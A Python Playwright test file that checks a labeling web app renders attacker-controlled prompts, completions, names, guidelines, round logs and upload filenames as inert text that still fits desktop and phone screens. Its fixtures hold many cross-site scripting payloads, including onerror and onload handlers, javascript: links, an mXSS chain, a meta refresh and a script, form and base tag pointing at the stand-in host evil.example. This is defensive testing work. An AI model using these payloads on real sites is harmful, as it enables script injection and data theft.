"""Attacker-controlled text in a real Chromium: prompts (plain and chat), completions, guidelines,
project, model and upload names, round logs and errors, on every page that shows them. Nothing
runs, nothing is fetched from elsewhere, and the pages stay usable at desktop and phone width.

Execution is detected four ways, so a payload that slips through cannot go unseen: each payload
assigns `window.__pwned` (a setter planted before any page script reports it), dialogs, console
messages and Content-Security-Policy violations are recorded, and every request the browser makes
to another origin (evil.example in the payloads) is recorded too."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from app.models import Completion, Prompt, Ranking, Role
from tests.factories import PASSWORD, make_project, make_task, make_user
from tests.labeling.helpers import fresh
from tests.rounds.helpers import add_event, make_round, make_version

pytestmark = [pytest.mark.browser, pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)]

DESKTOP = {"width": 1280, "height": 900}
PHONE = {"width": 390, "height": 844}
HUGE = "A" * 200_000  # one unbroken 200k-character word
RLO, ZERO_WIDTH = "\u202e", "zero\u200bwidth\ufeffjoin"
# Each string is one completion (the page shows at most nine per task).
MARKUP = [
    "<script>window.__pwned='script'</script> <script src=\"http://evil.example/x.js\"></script>",
    "<img src=x onerror=\"window.__pwned='img'\"> <svg onload=\"window.__pwned='svg'\"><circle r=9 /></svg>",
    '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe> <object data="http://evil.example/o">',
    "[md link](javascript:window.__pwned='md-link') <a href=\"javascript:window.__pwned='a'\">a link</a> "
    "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+) ![pixel](http://evil.example/p.png)",
    '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:2147483647;background:#fff">'
    "covering overlay</div>",
    '<form action="http://evil.example/steal"><input name=q></form> <meta http-equiv="refresh" '
    'content="0;url=http://evil.example/"> <base href="http://evil.example/"> '
    "<link rel=stylesheet href=//evil.example/c>",
    "<div style=\"width: expression(window.__pwned='expression')\">CSS expression</div> "
    '<div hx-get="http://evil.example/htmx" hx-trigger="load">htmx attributes</div> {{ 7*7 }}',
    HUGE,
    f"File: {RLO}txt.exe and an override never closed; {ZERO_WIDTH}",
]
LONG_LINES = [
    "```python\nx = '" + "y" * 5000 + "'\n```",
    "| a | b |\n|---|---|\n| " + "c" * 3000 + " | d |",
    "\"><img src=x onerror=window.__pwned='attr'> <details open ontoggle=\"window.__pwned='details'\">d</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='mxss'></style></mglyph></table>",
]
CHAT = [
    {"role": "system", "content": "<script>window.__pwned='system'</script> " + "S" * 3000},
    {
        "role": "user",
        "content": f"[turn](javascript:window.__pwned='turn') <svg/onload=window.__pwned='turn'> {RLO}abc",
    },
]
NAME = "Evil \"quoted\" <script>window.__pwned='name'</script> " + "N" * 120 + f" {RLO}eman"
GUIDELINES = (
    "# Rules\n\n<script>window.__pwned='guidelines'</script>\n\n[help](javascript:window.__pwned='guide')\n\n"
    '<div style="position:fixed;inset:0;z-index:99">overlay</div>\n\n' + "G" * 5000
)

TRIPWIRES = """(() => {
  const trip = (kind, detail) => window.__trip(kind, String(detail));
  Object.defineProperty(window, "__pwned", { get() { return undefined; }, set(v) { trip("pwned", v); } });
  document.addEventListener("securitypolicyviolation",
                            e => trip("csp", e.violatedDirective + " " + e.blockedURI), true);
})();"""

# For a failure message: the outermost elements that stick out past the viewport's right edge.
WIDER = """() => [...document.querySelectorAll("body *")]
  .filter(e => e.getBoundingClientRect().right > innerWidth + 1
               && !(e.parentElement.getBoundingClientRect().right > innerWidth + 1))
  .map(e => `${e.tagName}.${e.className} ${Math.round(e.getBoundingClientRect().right)}px`).slice(0, 5)"""


class Watch:
    """Everything that would show hostile text ran or reached out, for one browser context."""

    def __init__(self, browser, base: str, viewport: dict) -> None:
        phone = viewport == PHONE
        self.context = browser.new_context(viewport=viewport, is_mobile=phone, has_touch=phone)
        self.fired: list[str] = []
        self.context.expose_function("__trip", lambda kind, detail: self.fired.append(f"{kind}: {detail}"))
        self.context.add_init_script(TRIPWIRES)
        self.context.on("request", lambda r: None if r.url.startswith(base) else self.fired.append(f"request: {r.url}"))
        self.page = self.context.new_page()
        self.page.on("dialog", lambda d: (self.fired.append(f"dialog: {d.message}"), d.dismiss()))
        self.page.on("console", lambda m: self.fired.append(f"console {m.type}: {m.text}"))
        self.page.on("pageerror", lambda e: self.fired.append(f"pageerror: {e}"))
        self.base = base

    def log_in(self, user) -> None:
        self.page.goto(f"{self.base}/login")
        self.page.fill("input[name=email]", user.email)
        self.page.fill("input[name=password]", PASSWORD)
        self.page.keyboard.press("Enter")
        self.page.wait_for_url(f"{self.base}/")

    def assert_inert_and_fits(self) -> None:
        page = self.page
        assert self.fired == [], self.fired
        assert page.evaluate("() => window.__pwned") is None
        # No live markup came out of stored text: escaped, never elements.
        assert (
            page.locator(
                ".untrusted :is(script, img, svg, iframe, object, style, form, meta, base, link, math, "
                "details, [style], [hx-get], [onerror], [onload], a[href^='javascript'], a[href^='data'])"
            ).count()
            == 0
        )
        assert page.locator("head base, head meta[http-equiv]").count() == 0
        assert page.evaluate("() => document.documentElement.scrollWidth <= window.innerWidth"), page.evaluate(WIDER)
        assert page.evaluate("() => getComputedStyle(document.body).display") != "none"


def _hittable(locator) -> bool:
    """Scrolled into view, it lies within the viewport's width and a click at its centre reaches it
    (no overlay on top)."""
    return locator.evaluate("""el => {
      el.scrollIntoView({ block: "center" });
      const r = el.getBoundingClientRect();
      const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
      return r.width > 0 && r.height > 0 && r.left >= 0 && r.right <= window.innerWidth && el.contains(hit);
    }""")


def _seed_tasks(db):
    project = make_project(
        db,
        name=NAME,
        overlap=1,
        guidelines=GUIDELINES,
        flags=["unsafe", "\"><img src=x onerror=window.__pwned='flag'>"],
    )
    text_task = make_task(
        db,
        project,
        texts=MARKUP,
        prompt_text="Explain <b>closures</b> <script>window.__pwned='prompt'</script> " + "P" * 20_000,
    )
    chat_task = make_task(db, project, texts=LONG_LINES)
    prompt = db.get(Prompt, chat_task.prompt_id)
    prompt.text, prompt.messages = None, CHAT
    db.commit()
    return project, {text_task.id: MARKUP, chat_task.id: LONG_LINES}


def _check_task(page) -> None:
    cards = page.locator(".completion-card")
    for i in range(cards.count()):
        card = cards.nth(i)
        assert _hittable(card.locator(".drag-handle")), f"drag handle {i} is covered or off screen"
        # A right-to-left override in the text never flips the card's own controls.
        head = card.locator(".card-head").evaluate("""h => ['.drag-handle', '.rank-badge', '.card-name']
            .map(s => h.querySelector(s).getBoundingClientRect().left)""")
        assert head == sorted(head), head
        assert card.locator(".completion-body").evaluate("b => getComputedStyle(b).unicodeBidi") == "isolate"
    assert _hittable(page.locator("button[type=submit].primary"))


def test_hostile_tasks_never_run_and_rank_by_keyboard(live_url, browser, db):
    project, texts_by_task = _seed_tasks(db)
    user = make_user(db, projects=[project])
    watch = Watch(browser, live_url, DESKTOP)
    page = watch.page
    watch.log_in(user)
    page.goto(f"{live_url}/projects/{project.id}/label")
    for _ in texts_by_task:
        page.wait_for_selector(".completion-card")
        watch.assert_inert_and_fits()
        _check_task(page)
        shown = page.eval_on_selector_all(".completion-body", "bodies => bodies.map(b => b.textContent)")
        assert sum("window.__pwned" in s for s in shown) >= 2  # the payloads are shown, as text
        if len(shown) == len(MARKUP):
            # nothing dropped: the hidden characters show as markers (app/hidden_chars.py)
            assert any(HUGE in s for s in shown) and any("zeroU+200BwidthU+FEFFjoin" in s for s in shown)
            assert "{{ 7*7 }}" in "".join(shown)  # never evaluated as a template
        # Rank by keyboard alone: the last card to first place, then submit.
        ids = page.eval_on_selector_all(".completion-card", "cs => cs.map(c => Number(c.dataset.completionId))")
        # The page focuses the first card once its script has set the task up (a moment after the
        # cards appear, on load and after each swap): keys pressed before that would go nowhere.
        expect(page.locator(".completion-card").first).to_be_focused()
        page.keyboard.press("End")
        page.keyboard.press("1")
        assert json.loads(page.input_value("[data-ranking-field]")) == [[ids[-1]]] + [[i] for i in ids[:-1]]
        assignment = page.get_attribute("[data-ranking-form]", "data-assignment-id")
        page.keyboard.press("Control+Enter")
        page.wait_for_selector(f"[data-ranking-form]:not([data-assignment-id='{assignment}']), [data-queue-empty]")
    page.wait_for_selector("[data-queue-empty]")
    watch.assert_inert_and_fits()

    fresh(db)
    rankings = db.scalars(select(Ranking).where(Ranking.user_id == user.id)).all()
    assert sorted(r.task_id for r in rankings) == sorted(texts_by_task)
    stored = db.scalars(select(Completion.text).join(Prompt).where(Prompt.project_id == project.id)).all()
    assert sorted(stored) == sorted(MARKUP + LONG_LINES)  # stored byte for byte
    watch.context.close()


def test_hostile_tasks_fit_a_phone(live_url, browser, db):
    project, texts_by_task = _seed_tasks(db)
    user = make_user(db, projects=[project])
    watch = Watch(browser, live_url, PHONE)
    watch.log_in(user)
    watch.page.goto(f"{live_url}/projects/{project.id}/label")
    watch.page.wait_for_selector(".completion-card")
    watch.assert_inert_and_fits()
    _check_task(watch.page)
    watch.context.close()


def _seed_admin_pages(db):
    project, _ = _seed_tasks(db)
    project.description = "<img src=x onerror=window.__pwned='description'> " + "D" * 3000
    db.commit()
    left = make_version(db, project, name="<script>window.__pwned='left'</script>" + "L" * 300)
    right = make_version(
        db,
        project,
        name=f"{RLO}right",
        artifact_path="../../<img src=x onerror=window.__pwned=1>",
        metrics={"note": "<svg onload=window.__pwned='metric'>", "reward": [0.1, 0.2]},
    )
    shared = db.scalar(select(Prompt).where(Prompt.project_id == project.id, Prompt.text.is_(None)))  # the chat one
    db.add_all(
        [
            Completion(prompt_id=shared.id, text=t, model_version_id=v.id)
            for v, texts in ((left, MARKUP[:4]), (right, MARKUP[4:]))
            for t in texts
        ]
    )
    live = make_round(
        db,
        project,
        number=0,
        status="labeling",
        policy_in_id=left.id,
        current_step="<img src=x onerror=window.__pwned='step'>",
    )
    for message in MARKUP[:3] + [HUGE[:5000]]:
        add_event(db, live, stage="<b>stage</b>", message=message)
    failed = make_round(
        db,
        project,
        number=1,
        status="failed",
        error_step="training_reward",
        error_message="Traceback <script>window.__pwned='error'</script>\n" + "E" * 4000,
    )
    return project, left, right, live, failed


def _upload_hostile_file(page) -> None:
    lines = [
        json.dumps({"external_id": "<img src=x onerror=window.__pwned='id'>", "text": MARKUP[1]}),
        "<script>window.__pwned='line'</script>",
        json.dumps({"external_id": "x" * 3000, "text": 5}),
    ]
    form = page.locator("form:has(input[name=kind][value=prompts])")
    form.locator("input[type=file]").set_input_files(
        {
            "name": "<img src=x onerror=window.__pwned='file'>.jsonl",
            "mimeType": "application/x-ndjson",
            "buffer": "\n".join(lines).encode(),
        }
    )
    form.locator("button[type=submit]").click()
    page.wait_for_selector("#upload-result")
    assert "onerror" in page.locator("#upload-result h2 .untrusted").inner_text()  # the file's name, as text


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_admin_pages_show_hostile_text_inert(live_url, browser, db, viewport):
    project, left, right, live, failed = _seed_admin_pages(db)
    admin = make_user(db, role=Role.admin)
    watch = Watch(browser, live_url, viewport)
    page = watch.page
    watch.log_in(admin)
    for path in [
        "/admin",
        f"/admin/projects/{project.id}",
        f"/admin/projects/{project.id}/rounds",
        f"/admin/projects/{project.id}/models?a={left.id}&b={right.id}",
        f"/admin/models/{right.id}",
        f"/admin/rounds/{failed.id}",
        f"/admin/projects/{project.id}/settings",
    ]:
        page.goto(live_url + path)
        watch.assert_inert_and_fits()
    assert "<script>window.__pwned='guidelines'</script>" in page.locator("#guidelines-preview").inner_text()

    # The markdown preview swaps hostile text in through htmx: still text.
    with page.expect_response(lambda r: r.url.endswith("/admin/markdown-preview")):
        page.fill("#f-guidelines", GUIDELINES + "\n\n" + MARKUP[2] + MARKUP[4])
    page.wait_for_function("() => document.getElementById('guidelines-preview').textContent.includes('iframe')")
    watch.assert_inert_and_fits()

    page.goto(f"{live_url}/admin/projects/{project.id}")
    _upload_hostile_file(page)
    watch.assert_inert_and_fits()

    # The live round page: its log tail comes back every poll, swapped in by htmx.
    page.goto(f"{live_url}/admin/rounds/{live.id}")
    watch.assert_inert_and_fits()
    settled = """() => new Promise(done =>
        document.body.addEventListener('htmx:afterSettle', () => done(true), { once: true }))"""
    assert page.evaluate(settled) is True
    assert page.locator(".log-message").count() == 4
    watch.assert_inert_and_fits()
    watch.context.close()
